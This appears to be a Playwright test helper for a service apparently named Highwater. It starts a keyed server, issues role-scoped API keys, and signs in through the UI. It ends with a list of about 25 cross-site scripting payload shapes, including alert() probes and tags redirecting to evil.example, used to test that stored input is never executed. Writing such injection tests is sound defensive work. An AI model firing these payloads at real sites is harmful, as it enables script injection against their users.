// A service with keys, for the rooms' tests: roles, an expired token, another project.
import { type ChildProcess, execFileSync } from "node:child_process";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

import { timestampFromMs } from "@bufbuild/protobuf/wkt";
import { type Client, createClient } from "@connectrpc/connect";
import { createGrpcWebTransport } from "@connectrpc/connect-web";
import { type Page, expect } from "@playwright/test";

import { PORT, ownPort } from "../playwright.config";
import { AdminService, Role } from "../src/gen/highwater/v1/admin_pb";
import { IngestService } from "../src/gen/highwater/v1/ingest_pb";
import { RequestService } from "../src/gen/highwater/v1/request_pb";
import { type Kind, Outcome } from "../src/gen/highwater/v1/types_pb";
import { binary, start, stop } from "./service";

export const KEYS_PORT = ownPort(7);

export interface Keyed {
  admin: Client<typeof AdminService>;
  /** A key of a role in a project, good until a moment in milliseconds. */
  key: (role: Role, project?: string, until?: number) => Promise<string>;
  operator: string;
  requests: (token: string) => Client<typeof RequestService>;
  end: () => Promise<void>;
}

const of = (token: string, port: number) =>
  createGrpcWebTransport({
    baseUrl: `http://127.0.0.1:${port}`,
    interceptors: [
      (next) => (request) => {
        request.header.set("X-Highwater", "1");
        request.header.set("Origin", `http://127.0.0.1:${port}`);
        if (token) request.header.set("Authorization", `Bearer ${token}`);
        return next(request);
      },
    ],
  });

export async function startKeyed(projects: string[]): Promise<Keyed> {
  const place = mkdtempSync(join(tmpdir(), "highwater-keys-"));
  const store = join(place, "store.redb");
  const operator = execFileSync(binary(), ["keys", "create", "--role", "operator", "--store", store], { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] }).trim();
  const child: ChildProcess = await start(["serve", "--store", store], KEYS_PORT);
  const admin = createClient(AdminService, of(operator, KEYS_PORT));
  for (const project of projects) await admin.createProject({ project });
  return {
    admin,
    operator,
    requests: (token) => createClient(RequestService, of(token, KEYS_PORT)),
    key: async (role, project = "acme", until) =>
      (await admin.createApiKey({ project, role, displayName: `a ${Role[role].toLowerCase()}`, ...(until && { expireTime: timestampFromMs(until) }) })).token,
    end: async () => {
      await stop(child);
      rmSync(place, { recursive: true, force: true });
    },
  };
}

/** Holds a slot as a worker that reports by single calls; gives it back. */
export async function hold(project: string, session: string, kind: Kind, model: string, labels: { room?: string; job?: string; worker?: string; account?: string; token?: string; port?: number } = {}): Promise<(outcome?: Outcome) => Promise<void>> {
  const ingest = createClient(IngestService, of(labels.token ?? "", labels.port ?? PORT));
  const incarnation = crypto.getRandomValues(new Uint8Array(16));
  const said = { project, workerId: labels.worker ?? "a worker", incarnation };
  const event = { sessionId: new TextEncoder().encode(session), meter: { kind, model, account: labels.account ?? "" }, labels: { room: labels.room ?? "", job: labels.job ?? "" } };
  await ingest.report({ ...said, lease: { seconds: 300n, nanos: 0 }, events: [event] });
  return async (outcome = Outcome.OK) => {
    await ingest.report({ ...said, events: [{ ...event, outcome }] });
    await ingest.goodbye({ project, incarnation, outcome: Outcome.OK });
  };
}

export async function signIn(page: Page, token: string): Promise<void> {
  const dialog = page.getByRole("dialog");
  await dialog.getByLabel("Key or token").fill(token);
  await dialog.getByRole("button", { name: "Sign in" }).click();
  await expect(dialog).toBeHidden();
}

/** What was stored to run, in every way that pages were ever made to run it. Each is said once: its number is its own. */
const SHAPES = [
  "<script>alert(N)</script>",
  "<img src=x onerror=alert(N)>",
  "\"><svg onload=alert(N)>",
  "'><iframe src=javascript:alert(N)>",
  "javascript:alert(N)",
  "<a href=javascript:alert(N)>x</a>",
  "{{constructor.constructor('alert(N)')()}}",
  "${alert(N)}",
  "<details open ontoggle=alert(N)>",
  "</textarea><script>alert(N)</script>",
  "<math><mtext><img src onerror=alert(N)>",
  "<style>@import 'javascript:alert(N)'</style>",
  "'-alert(N)-'",
  "</title><script>alert(N)</script>",
  "<iframe srcdoc='<script>alert(N)</script>'>",
  "<svg><animate onbegin=alert(N) attributeName=x>",
  "<body onload=alert(N)>",
  "<input autofocus onfocus=alert(N)>",
  "<base href=//evil.example/N>",
  "<meta http-equiv=refresh content=0;url=//evil.example/N>",
  "<object data=data:text/html,alert(N)>",
  "<form action=//evil.example/N><button>x",
  "--><img src=x onerror=alert(N)><!--",
  "<b onmouseover=alert(N)>x",
  "data:text/html,<script>alert(N)</script>",
] as const;
export const HOSTILE = Array.from({ length: 2 * SHAPES.length }, (_, nth) => (SHAPES[nth % SHAPES.length] ?? "").replaceAll("N", String(nth + 100)));
